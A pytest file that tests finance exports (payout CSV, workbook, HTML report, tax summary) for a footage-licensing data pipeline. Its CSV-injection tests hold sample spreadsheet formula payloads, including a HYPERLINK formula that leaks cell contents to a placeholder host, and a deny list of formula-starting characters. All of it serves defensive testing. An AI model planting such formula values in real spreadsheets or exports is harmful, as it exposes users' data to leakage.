"""Finance exports (docs/EXPORTS.md): payout CSV, workbook, HTML report and tax summary,
gated on the blocking checks. A real lake is built from a hand-made landing zone (real
MP4s) by ``lib.pipeline.run_all`` (the same library code and SQL models as the Dagster
assets); the asset itself runs through real ``dg.materialize``.

Hand-computed cents (share rate 1/2, minimum payout $10, sd price 2468 c/min):
  January, batch B1: c1 (s1, 60 s) = 2468, c2 (s2, 30 s) = 1234 -> gross 3702, pool 1851;
    R9 weights 2:1 -> s1 1234 (payable, "12.34"), s2 617 (carried forward).
  February, batch B2: c4 (s2, 20 s) = 822.67 -> gross 823, pool round_half_up(411.5) = 412;
    s2: opening 617 + 412 = 1029 -> payable.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import stat
import zipfile
from datetime import UTC, date
from pathlib import Path

import dagster as dg
import pyarrow as pa
import pytest
from conftest import encode_mp4
from hypothesis import given, settings
from hypothesis import strategies as st

from gopro_assets.cli import main
from gopro_assets.defs.finance.assets import payout_export
from gopro_assets.defs.finance.export import export_month, export_tax_year
from gopro_assets.defs.finance.gate import ExportRefused, gate_month
from gopro_assets.domain.finance import exports as lib
from gopro_assets.domain.finance.exports import ExportDataError
from gopro_assets.domain.finance.report import SECTIONS, Section, build_report
from gopro_assets.domain.ingestion.landing import LANDING_KINDS
from gopro_assets.lake import duck
from gopro_assets.lake.delta_store import DeltaStore
from gopro_assets.shared.resources import LakehouseResource
from gopro_tools.pipeline import run_all

SUBSCRIBERS = """subscriber_id,email,country,subscribed_at,cancelled_at,invited_at
s1,one@example.com,US,2024-11-01T00:00:00Z,,2024-11-15T00:00:00Z
s2,two@example.com,US,2024-11-01T00:00:00Z,,2024-11-15T00:00:00Z
s3,three@example.com,US,2024-11-01T00:00:00Z,,2024-11-15T00:00:00Z
"""
UPLOADS = [
    {"clip_id": "c1", "subscriber_id": "s1", "object_key": "s1/c1.mp4", "uploaded_at": "2025-01-05T10:00:00Z"},
    {"clip_id": "c2", "subscriber_id": "s2", "object_key": "s2/c2.mp4", "uploaded_at": "2025-01-06T10:00:00Z"},
    {"clip_id": "c4", "subscriber_id": "s2", "object_key": "s2/c4.mp4", "uploaded_at": "2025-02-03T10:00:00Z"},
]
DEAL = {
    "deal_id": "D1",
    "buyer_id": "acme-ai",
    "buyer_name": "Acme AI",
    "signed_at": "2025-01-01T00:00:00Z",
    "pricing": {"model": "per_minute", "tier_prices_cents": {"sd": 2468}},
    "criteria": {},
    "batches": [
        {"batch_id": "B1", "cutoff_at": "2025-01-31T23:59:59Z"},
        {"batch_id": "B2", "cutoff_at": "2025-02-28T23:59:59Z"},
    ],
}
PAYOUTS = """payout_id,subscriber_id,statement_month,amount_cents,paid_at
PX-1,s1,2025-01,1234,2025-02-10T00:00:00Z
PX-2,s2,2025-01,500,2025-02-10T00:00:00Z
"""
PAYMENTS = "payment_id,deal_id,batch_id,amount_cents,received_at\nP1,D1,B1,3702,2025-02-05T00:00:00Z\n"


def build_landing(root: Path) -> None:
    for folder in ("subscribers", "consent_events", "uploads", "deals", "buyer_payments", "payouts"):
        (root / folder).mkdir(parents=True)
    (root / "subscribers" / "s.csv").write_text(SUBSCRIBERS)
    (root / "consent_events" / "c.jsonl").write_text(
        "\n".join(
            json.dumps(
                {"event_id": f"e-{s}", "subscriber_id": s, "event_at": "2024-12-02T00:00:00Z", "action": "opt_in"}
            )
            for s in ("s1", "s2", "s3")
        )
        + "\n"
    )
    (root / "uploads" / "u.jsonl").write_text(
        "\n".join(json.dumps(u | {"published": False, "activity": None, "mount": None}) for u in UPLOADS) + "\n"
    )
    (root / "deals" / "D1.json").write_text(json.dumps(DEAL))
    (root / "buyer_payments" / "p.csv").write_text(PAYMENTS)
    (root / "payouts" / "p.csv").write_text(PAYOUTS)
    for key, seconds, shade in (("s1/c1.mp4", 60, 10), ("s2/c2.mp4", 30, 90), ("s2/c4.mp4", 20, 170)):
        encode_mp4(root / "footage" / key, seconds=seconds, shade=shade)  # 64x36 -> tier sd


@pytest.fixture(scope="module")
def built_lake(tmp_path_factory) -> Path:
    """The lake built through the end of 2025 (every month of the year complete)."""
    base = tmp_path_factory.mktemp("exports_lake")
    build_landing(base / "landing")
    run_all(DeltaStore(str(base / "lake")), str(base / "landing"), date(2025, 1, 1), date(2025, 12, 31))
    return base


@pytest.fixture
def lakehouse(built_lake, tmp_path) -> LakehouseResource:
    """A private copy of the built lake (tests may corrupt it) and a fresh exports folder."""
    shutil.copytree(built_lake / "lake", tmp_path / "lake")
    return LakehouseResource(
        landing=str(built_lake / "landing"), lake=str(tmp_path / "lake"), exports=str(tmp_path / "exports")
    )


def read_csv(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text())))


def month_files(lakehouse: LakehouseResource, month: str) -> dict[str, Path]:
    return {k: Path(lakehouse.exports) / rel for k, rel in lib.month_paths(month).items()}


# -- money formatting and references ---------------------------------------------------
def test_dollars_are_formatted_from_int_cents():
    assert [lib.dollars(c) for c in (0, 5, 99, 100, 1234, 100000, -5, -1234)] == [
        "0.00",
        "0.05",
        "0.99",
        "1.00",
        "12.34",
        "1000.00",
        "-0.05",
        "-12.34",
    ]
    assert lib.dollars(123456789, grouping=True) == "1,234,567.89"
    assert lib.dollars(10**20 + 1) == "1000000000000000000.01"  # no float rounding at any size
    with pytest.raises(TypeError):
        lib.dollars(12.34)


def test_payout_reference_is_stable_and_documented():
    ref = lib.payout_reference("2025-01", "s1")
    expected = "PO-2025-01-" + hashlib.sha256(b"2025-01:s1").hexdigest()[:16].upper()
    assert ref == expected == lib.payout_reference("2025-01", "s1")
    assert re.fullmatch(r"PO-\d{4}-\d{2}-[0-9A-F]{16}", ref)
    assert lib.payout_reference("2025-02", "s1") != ref != lib.payout_reference("2025-01", "s2")
    with pytest.raises(ValueError):
        lib.payout_reference("2025-13", "s1")


# -- payout file -----------------------------------------------------------------------
def test_payout_csv_rows_and_amounts_match_hand_computed_cents(lakehouse):
    export_month(lakehouse, "2025-01")
    files = month_files(lakehouse, "2025-01")
    ref1 = lib.payout_reference("2025-01", "s1")
    # s1: 1234 cents payable; s2 carries 617 (below $10): not in the file
    assert files["payouts"].read_bytes() == (
        b"payout_reference,subscriber_id,email,amount_usd,amount_cents,currency,statement_month\r\n"
        + f"{ref1},s1,one@example.com,12.34,1234,USD,2025-01\r\n".encode()
    )

    export_month(lakehouse, "2025-02")
    rows = read_csv(month_files(lakehouse, "2025-02")["payouts"])
    assert [
        (r["subscriber_id"], r["email"], r["amount_usd"], r["amount_cents"], r["currency"], r["statement_month"])
        for r in rows
    ] == [("s2", "two@example.com", "10.29", "1029", "USD", "2025-02")]  # 617 + 412
    assert rows[0]["payout_reference"] == lib.payout_reference("2025-02", "s2")

    export_month(lakehouse, "2025-03")  # a month with nothing payable: header only
    assert read_csv(month_files(lakehouse, "2025-03")["payouts"]) == []


def test_email_only_in_the_payout_csv_and_it_is_owner_only(lakehouse):
    written = export_month(lakehouse, "2025-01")
    files = month_files(lakehouse, "2025-01")
    assert set(written) == set(lib.month_paths("2025-01").values())
    assert stat.S_IMODE(files["payouts"].stat().st_mode) == 0o600
    assert stat.S_IMODE(files["workbook"].stat().st_mode) == 0o644
    assert stat.S_IMODE(files["report"].stat().st_mode) == 0o644
    assert b"one@example.com" in files["payouts"].read_bytes()
    with zipfile.ZipFile(files["workbook"]) as z:
        assert not any(b"@example.com" in z.read(n) for n in z.namelist())
    assert b"@example.com" not in files["report"].read_bytes()


# -- workbook --------------------------------------------------------------------------
def test_workbook_sheets_hold_statements_breaks_and_receivables(lakehouse):
    from openpyxl import load_workbook

    export_month(lakehouse, "2025-02")
    wb = load_workbook(month_files(lakehouse, "2025-02")["workbook"])
    assert wb.sheetnames == ["summary", "statements", "reconciliation_breaks", "receivables"]

    def table(name):
        rows = list(wb[name].iter_rows(values_only=True))
        return [dict(zip(rows[0], r)) for r in rows[1:]]

    summary = {r["item"]: r for r in table("summary")}
    assert summary["payable (payout file total)"]["value"] == 1029
    assert summary["payable (payout file total)"]["usd"] == "10.29"
    assert summary["gross revenue (R7)"]["value"] == 823 and summary["contributors' pool (R8)"]["value"] == 412
    assert summary["blocking checks passed"]["value"] > 10

    st = {r["subscriber_id"]: r for r in table("statements")}
    assert set(st) == {"s2"}
    assert (st["s2"]["opening_balance_cents"], st["s2"]["earned_cents"], st["s2"]["payable_cents"]) == (617, 412, 1029)
    assert st["s2"]["payout_reference"] == lib.payout_reference("2025-02", "s2")
    assert isinstance(st["s2"]["payable_cents"], int)

    breaks = table("reconciliation_breaks")
    # February: s2's 1029 is not paid yet; buyer side: B2 (823) unpaid, B1 paid in full
    assert [
        (b["side"], b["subscriber_id"], b["batch_id"], b["expected_cents"], b["actual_cents"], b["status"])
        for b in breaks
    ] == [("contributor", "s2", None, 1029, 0, "unpaid"), ("buyer", None, "B2", 823, 0, "unpaid")]
    receivables = {r["batch_id"]: r["status"] for r in table("receivables")}
    assert receivables == {"B1": "paid", "B2": "unpaid"}

    export_month(lakehouse, "2025-01")
    wb = load_workbook(month_files(lakehouse, "2025-01")["workbook"])
    jan = [r for r in list(wb["reconciliation_breaks"].iter_rows(values_only=True))[1:]]
    assert [(r[0], r[2], r[5], r[6], r[8]) for r in jan] == [("contributor", "s2", 0, 500, "unexpected")]


def test_workbook_ids_are_text_never_formulas():
    import duckdb
    from openpyxl import load_workbook

    con = duckdb.connect()
    con.register(
        "revenue_share_statements",
        pa.table(
            {
                "statement_month": ["2025-01"],
                "subscriber_id": ['=HYPERLINK("x")'],
                "opening_balance_cents": [0],
                "earned_cents": [1500],
                "total_cents": [1500],
                "payable_cents": [1500],
                "carried_forward_cents": [0],
                "clips_licensed": [1],
                "billable_seconds": [10],
            }
        ),
    )
    wb = load_workbook(io.BytesIO(lib.workbook_bytes(con, "2025-01")))
    cell = wb["statements"]["B2"]
    assert cell.value == '=HYPERLINK("x")' and cell.data_type == "s"


# -- refusal ---------------------------------------------------------------------------
def corrupt_allocations(lakehouse: LakehouseResource) -> None:
    """One extra cent for s1 in January: allocations no longer sum to the pool (R9/R13)."""
    store = lakehouse.store()
    alloc = store.read("revenue_share_allocations")
    row = next(r for r in alloc.to_pylist() if r["subscriber_id"] == "s1")
    store.overwrite(
        "revenue_share_allocations",
        pa.concat_tables(
            [
                alloc.filter(pa.compute.not_equal(alloc["subscriber_id"], "s1")),
                pa.Table.from_pylist([row | {"allocated_cents": row["allocated_cents"] + 1}], schema=alloc.schema),
            ]
        ),
    )


def test_export_is_refused_when_a_blocking_check_fails(lakehouse):
    assert gate_month(lakehouse, "2025-01").passed
    corrupt_allocations(lakehouse)
    gate = gate_month(lakehouse, "2025-01")
    assert not gate.passed
    failing = {b.check for b in gate.breaches}
    assert "revenue_share_allocations.allocations_sum_to_pool" in failing
    assert "revenue_share_statements.month_pools_equal_allocations" in failing  # pools 1851 != allocations 1852
    with pytest.raises(ExportRefused, match=r"export of 2025-01 REFUSED(.|\n)*allocations_sum_to_pool"):
        export_month(lakehouse, "2025-01")
    assert not Path(lakehouse.exports).exists()  # nothing written, not even the folder


def test_export_is_refused_for_a_month_the_lake_was_not_built_through(lakehouse, tmp_path):
    # The lake was built through 2025-12-31: January 2026 is over (UTC) but not in the lake.
    with pytest.raises(ExportRefused, match="finance.lake_built_through_month"):
        export_month(lakehouse, "2026-01")
    # A month that is not over yet is refused whatever the lake says.
    with pytest.raises(ExportRefused, match="finance.month_is_over"):
        export_month(lakehouse, "2099-01")
    # A statement month that was never built in the middle of the history: February's
    # statements removed -> March opens with balances nobody carried in (s2's 617 is lost).
    store = lakehouse.store()
    store.delete("revenue_share_statements", "statement_month = '2025-02'")
    with pytest.raises(ExportRefused) as refused:
        export_month(lakehouse, "2025-03")
    assert "month_pools_equal_allocations [2025-02]" in str(refused.value)
    assert "opening_balances_continue" in str(refused.value)
    assert gate_month(lakehouse, "2025-01").passed  # earlier months are not tainted by a later gap


def test_dagster_asset_fails_loudly_and_writes_nothing_on_an_inconsistent_lake(lakehouse):
    corrupt_allocations(lakehouse)
    with dg.instance_for_test() as instance:
        result = dg.materialize(
            [payout_export],
            partition_key="2025-01-01",
            resources={"lakehouse": lakehouse},
            instance=instance,
            raise_on_error=False,
        )
    assert not result.success
    failure = next(e for e in result.all_events if e.is_step_failure)
    assert "REFUSED" in str(failure.event_specific_data.error) and "allocations_sum_to_pool" in str(
        failure.event_specific_data.error
    )
    assert not Path(lakehouse.exports).exists()


# -- reproducibility -------------------------------------------------------------------
def test_exports_are_byte_for_byte_reproducible_across_runs_and_entry_points(lakehouse, tmp_path):
    from gopro_assets.lake.storage import FileRoot

    export_month(lakehouse, "2025-02", FileRoot(str(tmp_path / "a")))
    export_month(lakehouse, "2025-02", FileRoot(str(tmp_path / "b")))
    # the Dagster asset writes the very same bytes (single-run range of two months)
    dagster_lh = LakehouseResource(landing=lakehouse.landing, lake=lakehouse.lake, exports=str(tmp_path / "c"))
    with dg.instance_for_test() as instance:
        result = dg.materialize(
            [payout_export],
            instance=instance,
            resources={"lakehouse": dagster_lh},
            tags={
                "dagster/asset_partition_range_start": "2025-01-01",
                "dagster/asset_partition_range_end": "2025-02-01",
            },
        )
        assert result.success
        checks = result.get_asset_check_evaluations()
        assert [c.passed for c in checks] == [True]
    for rel in lib.month_paths("2025-02").values():
        a, b, c = ((tmp_path / d / rel).read_bytes() for d in "abc")
        assert a == b == c, rel
    assert (tmp_path / "c" / lib.month_paths("2025-01")["payouts"]).exists()

    with zipfile.ZipFile(tmp_path / "a" / lib.month_paths("2025-02")["workbook"]) as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
        assert "2000-01-01T00:00:00Z" in core and "2026" not in core
    html = (tmp_path / "a" / lib.month_paths("2025-02")["report"]).read_text()
    assert 'id="section-2-chart-1"' in html


# -- report ----------------------------------------------------------------------------
def test_report_is_self_contained_html_with_plotly_inline(lakehouse):
    from plotly.offline import get_plotlyjs

    export_month(lakehouse, "2025-02")
    html = month_files(lakehouse, "2025-02")["report"].read_text()
    assert html.startswith("<!DOCTYPE html>")
    assert get_plotlyjs()[:2000] in html  # the library itself, inline
    assert not re.search(r"<script[^>]*\bsrc\s*=", html, re.I)  # no external script
    assert not re.search(r"<link[^>]*href\s*=\s*[\"']https?:", html, re.I)
    for title in (
        "Revenue by deal and month",
        "Contributors&#x27; pool vs platform share",
        "Payout distribution",
        "Carried-forward balances",
        "Reconciliation breaks",
    ):
        assert f"<h2>{title}</h2>" in html, title
    # four charts of ours (other sections, e.g. valuation, may add more), fixed div ids
    assert html.count('class="plotly-graph-div"') >= 4
    assert all(f'id="section-{n}-chart-1"' in html for n in (2, 3, 4, 5))
    assert "$10.29" in html  # February's payout, formatted from cents


def test_report_sections_extension_point_and_missing_tables_are_skipped(lakehouse):
    con = lib.connect_lake(lakehouse.store(), ["revenue_share_statements"])  # no batch_revenue

    def valuation_section(con, month):
        [(n,)] = con.execute("SELECT count(*) FROM clip_valuations").fetchall()
        return f"<p>{n} clip(s) valued</p>"

    sections = [*SECTIONS, Section("Clip valuations", valuation_section, requires=("clip_valuations",))]
    html = build_report(con, "2025-02", sections=sections).decode()
    assert "<h2>Payout distribution</h2>" in html
    assert "<h2>Revenue by deal and month</h2>" not in html
    assert "Revenue by deal and month (needs batch_revenue)" in html
    assert "Clip valuations (needs clip_valuations)" in html

    con.register(
        "clip_valuations",
        pa.table({"clip_id": ["c1", "c2"], "predicted_cents_per_minute": [10, 20], "model_version": ["v1", "v1"]}),
    )
    html = build_report(con, "2025-02", sections=sections).decode()
    assert "<h2>Clip valuations</h2>\n<p>2 clip(s) valued</p>" in html


# -- tax summary -----------------------------------------------------------------------
def test_tax_summary_flags_1099_misc_from_ten_dollars(tmp_path):
    """Royalties = sum of payable_cents of the year's statements; the flag is >= 1000 cents."""
    store = DeltaStore(str(tmp_path / "lake"))

    def st(month, sub, payable, carried=0):
        return {
            "statement_month": month,
            "subscriber_id": sub,
            "opening_balance_cents": 0,
            "earned_cents": payable + carried,
            "total_cents": payable + carried,
            "payable_cents": payable,
            "carried_forward_cents": carried,
            "clips_licensed": 1,
            "billable_seconds": 10,
        }

    store.overwrite(
        "revenue_share_statements",
        pa.Table.from_pylist(
            [
                st("2025-03", "a_999", 999),  # one cent short of $10
                st("2025-04", "b_1000", 1000),  # exactly $10
                st("2025-02", "c_split", 400),
                st("2025-11", "c_split", 600),  # $10 over two statements
                st("2024-12", "d_outside", 5000),
                st("2026-01", "d_outside", 5000),  # other years
                st("2025-06", "e_carried", 0, carried=800),  # nothing payable
            ]
        ),
    )
    payouts_schema = LANDING_KINDS["payouts"].schema
    from datetime import datetime

    store.overwrite(
        "payouts",
        pa.Table.from_pylist(
            [
                {
                    "payout_id": "P1",
                    "subscriber_id": "b_1000",
                    "statement_month": "2025-04",
                    "amount_cents": 1000,
                    "paid_at": datetime(2025, 5, 2, tzinfo=UTC),
                    "_source_path": "payouts/a.csv",
                    "_source_line": 2,
                },
                {
                    "payout_id": "P1",
                    "subscriber_id": "b_1000",
                    "statement_month": "2025-04",
                    "amount_cents": 1000,
                    "paid_at": datetime(2025, 5, 2, tzinfo=UTC),
                    "_source_path": "payouts/a.csv",
                    "_source_line": 3,
                },
                {
                    "payout_id": "P2",
                    "subscriber_id": "d_outside",
                    "statement_month": "2024-12",
                    "amount_cents": 5000,
                    "paid_at": datetime(2025, 1, 3, tzinfo=UTC),
                    "_source_path": "payouts/a.csv",
                    "_source_line": 4,
                },
            ],
            schema=payouts_schema,
        ),
    )
    con = lib.connect_lake(store)
    rows = {r["subscriber_id"]: r for r in lib.tax_rows(con, 2025)}
    assert {s: (r["royalties_cents"], r["royalties_usd"], r["form_1099_misc"]) for s, r in rows.items()} == {
        "a_999": (999, "9.99", False),
        "b_1000": (1000, "10.00", True),
        "c_split": (1000, "10.00", True),
        "d_outside": (0, "0.00", False),  # listed only for its cash payout made in 2025
    }
    assert rows["b_1000"]["paid_in_year_cents"] == 1000  # the repeated payout_id counts once
    assert rows["d_outside"]["paid_in_year_cents"] == 5000
    text = lib.tax_csv(con, 2025).decode()
    assert text.splitlines()[0] == ",".join(lib.TAX_COLUMNS)
    assert "2025,a_999,999,9.99,1,0,false" in text and "2025,b_1000,1000,10.00,1,1000,true" in text


def test_tax_year_export_is_gated_and_refused_while_the_year_is_open(lakehouse):
    written = export_tax_year(lakehouse, 2025)
    path = Path(lakehouse.exports) / lib.tax_path(2025)
    assert list(written.values()) == [str(path)]
    rows = {r["subscriber_id"]: r for r in read_csv(path)}
    assert {s: (r["royalties_cents"], r["form_1099_misc"]) for s, r in rows.items()} == {
        "s1": ("1234", "true"),
        "s2": ("1029", "true"),
    }
    with pytest.raises(ExportRefused, match="not over"):
        export_tax_year(lakehouse, 2099)
    corrupt_allocations(lakehouse)
    with pytest.raises(ExportRefused, match="allocations_sum_to_pool"):
        export_tax_year(lakehouse, 2025)


# -- command line ----------------------------------------------------------------------
def test_cli_export_end_to_end(lakehouse, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("GOPRO_LAKE", lakehouse.lake)
    monkeypatch.setenv("GOPRO_EXPORTS", str(tmp_path / "default_exports"))
    out = tmp_path / "cli_out"
    assert main(["export", "--month", "2025-01", "--out", str(out), "--tax-year", "2025"]) == 0
    printed = capsys.readouterr().out
    for rel in [*lib.month_paths("2025-01").values(), lib.tax_path(2025)]:
        assert (out / rel).is_file() and str(out / rel) in printed, rel
    assert read_csv(out / lib.month_paths("2025-01")["payouts"])[0]["amount_usd"] == "12.34"
    assert stat.S_IMODE((out / lib.month_paths("2025-01")["payouts"]).stat().st_mode) == 0o600

    assert main(["export", "--month", "2025-02"]) == 0  # --out defaults to $GOPRO_EXPORTS
    assert (tmp_path / "default_exports" / lib.month_paths("2025-02")["payouts"]).is_file()

    corrupt_allocations(lakehouse)
    capsys.readouterr()
    assert main(["export", "--month", "2025-01", "--out", str(tmp_path / "refused")]) == 1
    err = capsys.readouterr().err
    assert "REFUSED" in err and "allocations_sum_to_pool" in err
    assert not (tmp_path / "refused").exists()

    assert main(["export"]) == 2
    assert main(["export", "--month", "2025-1"]) == 2


@pytest.mark.parametrize(
    "email, payable",
    [
        ("one@example.com", True),
        ("first.last+tag@mail.example.co.uk", True),
        ('=HYPERLINK("http://x.example/?"&A1)@example.com', False),  # a formula in a spreadsheet
        ("+1@example.com", False),
        ("-2+3@example.com", False),
        ("@example.com", False),
        ("one@example", False),  # no dot in the domain
        ("one two@example.com", False),
        ("one@@example.com", False),
        ("one@example.com\r\n=1+1", False),
    ],
)
def test_payout_file_takes_plain_addresses_only(email, payable):
    """A spreadsheet runs a cell starting with = + - @ as a formula (CSV injection): the
    payout file is refused, naming the subscriber, never showing the address."""
    con = duck.connect()
    con.register(
        "revenue_share_statements",
        pa.table(
            {"statement_month": ["2025-01", "2025-01"], "subscriber_id": ["s1", "s2"], "payable_cents": [1500, 2000]}
        ),
    )
    con.register("subscribers", pa.table({"subscriber_id": ["s1", "s2"], "email": ["ok@example.com", email]}))
    assert lib.is_payable_address(email) is payable
    if payable:
        assert [r["email"] for r in lib.payout_rows(con, "2025-01")] == ["ok@example.com", email]
    else:
        with pytest.raises(ExportDataError, match="not a plain address") as refused:
            lib.payout_rows(con, "2025-01")
        assert str(refused.value).endswith(": s2") and email not in str(refused.value)
    con.close()


# -- CSV injection: every CSV cell is safe to open in a spreadsheet (docs/EXPORTS.md) ----------
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs (written out, not imported)
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]{2})?")


def _check_csv_cells(data: bytes, numbers: set[str]) -> list[dict]:
    """Every text cell is safe; every number cell is a plain number. Returns the rows."""
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for row in rows:
        for column, cell in row.items():
            if column in numbers:
                assert PLAIN_NUMBER.fullmatch(cell), (column, cell)
            else:
                assert not cell.startswith(FORMULA_START), (column, cell)
    return rows


def _as_cell(text: str) -> str:
    """The cell a text must become: itself, or with a leading ' when a spreadsheet would run it."""
    return "'" + text if text.startswith(FORMULA_START) else text


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote():
    rows = [
        {"id": v, "note": v, "amount_cents": -500, "amount_usd": "-5.00"}
        for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "s1", "'=x", "", None)
    ]
    data = lib.csv_bytes(["id", "note", "amount_cents", "amount_usd"], rows, frozenset({"amount_usd"}))
    got = _check_csv_cells(data, {"amount_cents", "amount_usd"})
    assert [r["id"] for r in got] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "s1", "'=x", "", ""]
    assert all(r["id"] == r["note"] for r in got)  # whatever the column
    assert {(r["amount_cents"], r["amount_usd"]) for r in got} == {("-500", "-5.00")}  # numbers stay numbers
    with pytest.raises(ValueError, match="holds numbers"):
        lib.csv_bytes(["amount_usd"], [{"amount_usd": "=1+1"}], frozenset({"amount_usd"}))


def test_payout_csv_of_a_formula_subscriber_id_is_text():
    """The case of issue 12: a lake holding subscriber ``=1+1`` (written before the id rule
    quarantined such rows) still gives a payout file no spreadsheet runs."""
    con = duck.connect()
    con.register(
        "revenue_share_statements",
        pa.table({"statement_month": ["2025-01"] * 2, "subscriber_id": ["=1+1", "s01"], "payable_cents": [1500, 2000]}),
    )
    con.register(
        "subscribers", pa.table({"subscriber_id": ["=1+1", "s01"], "email": ["a@example.com", "b@example.com"]})
    )
    text = lib.payout_csv(con, "2025-01").decode()
    assert f"{lib.payout_reference('2025-01', '=1+1')},'=1+1,a@example.com,15.00,1500,USD,2025-01" in text
    con.close()


_ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
_RISKY_TEXT = st.one_of(_ANY_TEXT, st.tuples(st.sampled_from(FORMULA_START), _ANY_TEXT).map("".join))


@settings(max_examples=60, deadline=None)
@given(
    subs=st.lists(_RISKY_TEXT, min_size=1, max_size=6, unique=True),
    cents=st.lists(st.integers(1, 10**12), min_size=6, max_size=6),
)
def test_no_payout_csv_cell_starts_with_a_formula_character(subs, cents):
    con = duck.connect()
    n = len(subs)
    con.register(
        "revenue_share_statements",
        pa.table({"statement_month": ["2025-01"] * n, "subscriber_id": subs, "payable_cents": cents[:n]}),
    )
    con.register("subscribers", pa.table({"subscriber_id": subs, "email": [f"u{i}@example.com" for i in range(n)]}))
    rows = _check_csv_cells(lib.payout_csv(con, "2025-01"), set(lib.PAYOUT_NUMBERS))
    con.close()
    by_cell = {r["subscriber_id"]: r for r in rows}
    assert set(by_cell) == {_as_cell(s) for s in subs}
    for sub, c in zip(subs, cents):
        r = by_cell[_as_cell(sub)]
        assert int(r["amount_cents"]) == c and r["amount_usd"] == lib.dollars(c)
        assert r["payout_reference"] == lib.payout_reference("2025-01", sub)


@settings(max_examples=40, deadline=None)
@given(
    subs=st.lists(_RISKY_TEXT, min_size=1, max_size=5, unique=True),
    payable=st.lists(st.integers(-(10**9), 10**9), min_size=5, max_size=5),
    paid=st.lists(st.integers(-(10**9), 10**9), min_size=5, max_size=5),
)
def test_no_tax_csv_cell_starts_with_a_formula_character_and_negatives_stay_numbers(subs, payable, paid):
    from datetime import datetime

    con = duck.connect()
    n = len(subs)
    zero = [0] * n
    con.register(
        "revenue_share_statements",
        pa.table(
            {
                "statement_month": ["2025-03"] * n,
                "subscriber_id": subs,
                "opening_balance_cents": zero,
                "earned_cents": payable[:n],
                "total_cents": payable[:n],
                "payable_cents": payable[:n],
                "carried_forward_cents": zero,
                "clips_licensed": zero,
                "billable_seconds": zero,
            }
        ),
    )
    payouts = [
        {
            "payout_id": f"P{i}",
            "subscriber_id": s,
            "statement_month": "2025-03",
            "amount_cents": a,
            "paid_at": datetime(2025, 4, 2, tzinfo=UTC),
            "_source_path": "payouts/a.csv",
            "_source_line": i + 2,
        }
        for i, (s, a) in enumerate(zip(subs, paid))
    ]
    con.register("payouts", pa.Table.from_pylist(payouts, schema=LANDING_KINDS["payouts"].schema))
    rows = _check_csv_cells(lib.tax_csv(con, 2025), set(lib.TAX_NUMBERS))
    con.close()
    got = {r["subscriber_id"]: r for r in rows}
    for sub, royalties, cash in zip(subs, payable, paid):
        if royalties == 0 and cash == 0:
            assert _as_cell(sub) not in got
            continue
        r = got[_as_cell(sub)]
        assert (int(r["royalties_cents"]), r["royalties_usd"], int(r["paid_in_year_cents"])) == (
            royalties,
            lib.dollars(royalties),
            cash,
        )
